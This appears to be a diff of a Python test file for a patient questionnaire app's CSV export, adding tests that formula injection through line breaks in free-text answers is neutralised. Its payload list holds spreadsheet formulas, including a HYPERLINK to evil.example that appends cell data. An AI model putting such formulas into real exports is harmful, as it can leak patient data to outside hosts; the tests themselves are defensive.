@@ -29,6 +29,12 @@ MALICIOUS = [
     "@SUM(1)",
     "\t=1+1",
     "\r=1+1",
+    # A line break ends a CSV row unless the cell is quoted: each of these would start
+    # a new row, or a new line in the cell, with a formula.
+    "x\n=1+1",
+    "x\r\n=HYPERLINK(CONCATENATE(CHAR(104);B2);B2)",
+    "x\r+1",
+    "a, b\n@SUM(1)",
 ]
 
 
@@ -116,15 +122,18 @@ def test_formulas_are_neutralised_in_the_raw_bytes(
     # RFC 4180 quoting on the wire: the quote marks inside are doubled.
     assert b'"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in body
     rows = parse(body)
+    assert {len(row) for row in rows} == {len(rows[0])}  # no row broken in pieces
+    assert len(rows) == 1 + len(MALICIOUS)
     column = rows[0].index("anything_else")
     assert sorted(row[column] for row in rows[1:]) == sorted(
-        "'" + value for value in MALICIOUS
+        export.neutralise(value) for value in MALICIOUS
     )
     for row in rows[1:]:
         for cell in row:
             if re.fullmatch(r"-?\d+", cell):
                 continue  # a number stays a number, sign and all
-            assert not cell.startswith(export.FORMULA_STARTS), repr(cell)
+            for line in re.split(r"\r\n|\r|\n", cell):
+                assert not line.startswith(export.FORMULA_STARTS), repr(cell)
     assert {row[rows[0].index("pain_severity")] for row in rows[1:]} == {"-3"}
 
 
@@ -138,6 +147,10 @@ def test_formulas_are_neutralised_in_the_raw_bytes(
         ("plain", "plain"),
         ("a=b", "a=b"),
         ("", ""),
+        ("x\n=1+1", "x\n'=1+1"),
+        ("x\r\n-2\r+3", "x\r\n'-2\r'+3"),
+        ("\r=1", "'\r'=1"),
+        ("two\nlines", "two\nlines"),
     ],
 )
 def test_neutralise(cell: str | int, expected: str | int) -> None:
@@ -235,7 +248,7 @@ def test_stored_cells_export_exactly_what_the_answers_would(
     ):
         PatientWalk(app.test_client(), q).complete(overrides)
     stored = db.scalars(select(Submission.export_hash)).all()
-    assert stored == [q.content_hash, q.content_hash]  # submitting stored them
+    assert stored == [export.cells_key(q)] * 2  # submitting stored them
     fast = download(staff_client)
     db.execute(update(Submission).values(export_hash="an older questionnaire"))
     slow = download(staff_client)  # now every row is built from its answers
@@ -262,5 +275,40 @@ def test_refreshing_re_renders_rows_from_older_versions(
     db.execute(update(Submission).values(export_hash=None, export_cells=None))
     result = app.test_cli_runner().invoke(args=["refresh-export-rows"])
     assert "Re-rendered 1 submission." in result.output
-    assert db.scalar(select(Submission.export_hash)) == q.content_hash
+    assert db.scalar(select(Submission.export_hash)) == export.cells_key(q)
     assert download(staff_client) == before
+
+
+def test_a_line_break_in_a_free_text_answer_cannot_start_a_row(
+    app: Flask, staff_client: FlaskClient, db: Session
+) -> None:
+    """The attack as an anonymous patient made it: a free-text answer with a line
+    break and a formula, exported from the cells stored at submission."""
+    q = app.extensions["screener.questionnaire"]
+    attack = "x\n=1+1"
+    PatientWalk(app.test_client(), q).complete({"anything_else": attack})
+    stored = db.scalar(select(Submission.export_cells))
+    assert '"x\n\'=1+1"' in stored  # quoted, and its second line neutralised
+    body = download(staff_client)
+    assert b"\n=1+1" not in body
+    rows = parse(body)
+    assert len(rows) == 2
+    assert len(rows[1]) == len(rows[0])
+    assert dict(zip(rows[0], rows[1], strict=True))["anything_else"] == "x\n'=1+1"
+
+
+def test_cells_stored_with_the_old_encoding_are_not_exported(
+    app: Flask, staff_client: FlaskClient, db: Session
+) -> None:
+    """Cells written before line breaks were quoted carry the old key (the
+    questionnaire's hash alone): the export rebuilds them, and refreshing re-encodes."""
+    q = app.extensions["screener.questionnaire"]
+    PatientWalk(app.test_client(), q).complete({"anything_else": "x\n=1+1"})
+    db.execute(  # as the old encoder wrote them: the line break unquoted
+        update(Submission).values(export_hash=q.content_hash, export_cells="x\n=1+1")
+    )
+    rows = parse(download(staff_client))
+    assert [len(row) for row in rows] == [len(rows[0])] * 2
+    result = app.test_cli_runner().invoke(args=["refresh-export-rows"])
+    assert "Re-rendered 1 submission." in result.output
+    assert '"x\n\'=1+1"' in db.scalar(select(Submission.export_cells))
